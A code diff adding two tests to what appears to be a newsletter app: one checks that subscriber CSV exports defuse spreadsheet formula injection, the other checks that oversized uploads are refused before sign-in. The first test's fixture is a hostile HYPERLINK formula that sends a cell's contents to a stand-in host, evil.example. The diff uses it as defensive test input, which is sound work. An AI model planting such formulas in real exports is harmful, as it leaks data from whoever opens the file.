@@ -4,7 +4,9 @@ with a real SMTP server receiving the mail."""
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import re
 from urllib.parse import urljoin
 
@@ -343,3 +345,46 @@ def test_two_cadences_each_with_an_edition_1_each_shown_and_retried_as_its_own(t
             assert "<h1>Next weekly edition</h1>" in nxt and "digest send --cadence NAME" in nxt
     finally:
         blog.close()
+
+
+def test_export_cells_a_spreadsheet_would_run_as_formulas_are_text_and_import_back_as_they_were(
+        signed_in, db, clock, tmp_path, config_path):
+    # A reader chooses their own name on the public form, and `=`, `+` and `-` may start an address:
+    # opened in a spreadsheet, such a cell would be a formula (OWASP "CSV injection").
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    subs.add(db, "=sum@example.com", clock, name=formula)
+    subs.add(db, "ann@example.com", clock, name="-1+2")
+    subs.add(db, "bob@example.com", clock, name="Bob = Robert")
+    exported = signed_in.get("/admin/subscribers/export").text
+    assert exported == run_digest(config_path, "subscribers", "export", check=True).stdout
+    cells = {row[0]: row[1] for row in csv.reader(io.StringIO(exported))}
+    assert cells["'=sum@example.com"] == "'" + formula
+    assert cells["ann@example.com"] == "'-1+2"
+    assert cells["bob@example.com"] == "Bob = Robert"  # only a cell's first character makes it a formula
+    for sub in db.exec(select(Subscriber)).all():
+        subs.erase(db, sub)
+    # the address and name columns, as a spreadsheet saves them (the import takes email[,name])
+    with open(tmp_path / "back.csv", "w", newline="") as back:
+        csv.writer(back).writerows(row[:2] for row in csv.reader(io.StringIO(exported)))
+    run_digest(config_path, "subscribers", "import", str(tmp_path / "back.csv"), check=True)
+    db.expire_all()
+    assert subs.get(db, "=sum@example.com").name == formula
+    assert subs.get(db, "ann@example.com").name == "-1+2"
+
+
+def test_a_body_over_the_limit_is_refused_before_it_is_read_or_anyone_is_signed_in(client, signed_in, db):
+    # Not signed in: the import's upload is refused by its size, not read to the end (to a
+    # temporary file) before the redirect to the login page; the readers' form takes no megabytes.
+    token = csrf_of(signed_in.get("/admin/subscribers").text)
+    outsider = test_admin.TestClient(client.app)
+    huge = b"reader@example.com\n" * (subscriber_pages.IMPORT_LIMIT // 19 + 10_000)
+    r = outsider.post("/admin/subscribers/import", data={"csrf": "x"}, files={"file": ("huge.csv", huge, "text/csv")},
+                      follow_redirects=False)
+    assert r.status_code == 413
+    r = outsider.post("/subscribe", data={"email": "ann@example.com", "name": "A" * 1_000_000})
+    assert r.status_code == 413
+    assert db.exec(select(Subscriber)).all() == []
+    # A file under the limit is imported as before, signed in.
+    files = {"file": ("ok.csv", b"email\n" + b"".join(b"r%d@example.com\n" % i for i in range(50_000)), "text/csv")}
+    page = signed_in.post("/admin/subscribers/import", data={"csrf": token}, files=files)
+    assert page.status_code == 200 and "Imported 50,000," in page.text
